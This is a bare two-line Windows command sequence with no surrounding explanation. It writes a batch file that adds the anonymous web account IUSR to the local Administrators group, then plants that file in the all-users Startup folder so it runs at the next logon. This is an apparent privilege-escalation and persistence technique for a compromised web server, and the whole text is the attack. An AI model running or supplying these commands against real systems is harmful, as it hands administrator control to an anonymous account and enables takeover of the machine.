echo net localgroup Administrators IUSR /add> C:\kit.cmd
replace C:\kit.cmd "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp" /a
